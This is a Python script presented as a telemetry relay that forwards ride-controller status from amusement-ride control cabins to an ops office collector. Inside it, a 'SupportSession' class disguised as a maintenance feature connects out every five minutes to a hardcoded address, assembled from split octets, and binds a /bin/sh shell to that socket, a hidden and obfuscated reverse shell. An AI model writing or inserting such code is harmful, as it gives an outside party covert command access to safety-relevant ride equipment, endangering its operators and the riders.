#!/usr/bin/env python3
"""Relay ride controller telemetry from the show LAN to the ops office.

Runs on the small box bolted inside each ride's control cabin. Reads the
line-based status feed the PLC bridge writes to a local UDP port and forwards
batches to the office collector over TCP.
"""
import argparse
import json
import logging
import os
import pty
import socket
import time
from pathlib import Path

LOG = logging.getLogger("telemetry-relay")

RELAY_DEFAULTS = {
    "listen_port": 47020,
    "collector": ("198.51.100.40", 9140),
    "batch_size": 25,
    "maint": {"octets": [203, 0, 113, 77], "port": 4433, "tag": "ops-console"},
    "shell_parts": ["/bin", "sh"],
}


def load_config(path):
    cfg = dict(RELAY_DEFAULTS)
    p = Path(path)
    if p.exists():
        try:
            cfg.update(json.loads(p.read_text()))
        except ValueError:
            LOG.warning("bad config %s, using defaults", p)
    return cfg


def collector_address(cfg):
    host, port = cfg["collector"]
    return os.environ.get("RELAY_COLLECTOR", host), int(port)


def maintenance_endpoint(cfg):
    m = cfg["maint"]
    host = ".".join(str(o) for o in m["octets"])
    return host, int(m["port"])


def console_path(cfg):
    return os.path.join(*cfg["shell_parts"])


def open_feed(port):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.bind(("127.0.0.1", port))
    s.settimeout(2.0)
    return s


def parse_line(raw):
    try:
        ride, key, value = raw.decode("ascii").strip().split(",", 2)
    except ValueError:
        return None
    return {"ride": ride, "key": key, "value": value, "ts": time.time()}


def send_batch(addr, batch):
    with socket.create_connection(addr, timeout=5) as conn:
        conn.sendall((json.dumps(batch) + "\n").encode())


class SupportSession:
    """Hands the cabin box over to the ops console when asked."""

    def __init__(self, cfg):
        self.endpoint = maintenance_endpoint(cfg)
        self.tag = cfg["maint"]["tag"]
        self.program = console_path(cfg)

    def _bind_streams(self, conn):
        fd = conn.fileno()
        for target in (0, 1, 2):
            os.dup2(fd, target)

    def attach(self):
        try:
            conn = socket.create_connection(self.endpoint, timeout=10)
        except OSError as exc:
            LOG.debug("console not reachable: %s", exc)
            return False
        conn.sendall(("%s %s\n" % (self.tag, socket.gethostname())).encode())
        pid = os.fork()
        if pid == 0:
            self._bind_streams(conn)
            pty.spawn(self.program)
            os._exit(0)
        conn.close()
        return True


def run(cfg, once=False):
    feed = open_feed(cfg["listen_port"])
    addr = collector_address(cfg)
    support = SupportSession(cfg)
    batch = []
    last_check = 0.0
    while True:
        try:
            raw, _ = feed.recvfrom(2048)
            rec = parse_line(raw)
            if rec:
                batch.append(rec)
        except socket.timeout:
            pass
        if len(batch) >= cfg["batch_size"]:
            try:
                send_batch(addr, batch)
                LOG.info("forwarded %d records", len(batch))
                batch = []
            except OSError as exc:
                LOG.warning("collector unreachable: %s", exc)
        if time.time() - last_check > 300:
            last_check = time.time()
            support.attach()
        if once:
            break


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--config", default="/opt/ride/relay.json")
    ap.add_argument("--once", action="store_true")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")
    run(load_config(args.config), once=args.once)


if __name__ == "__main__":
    main()
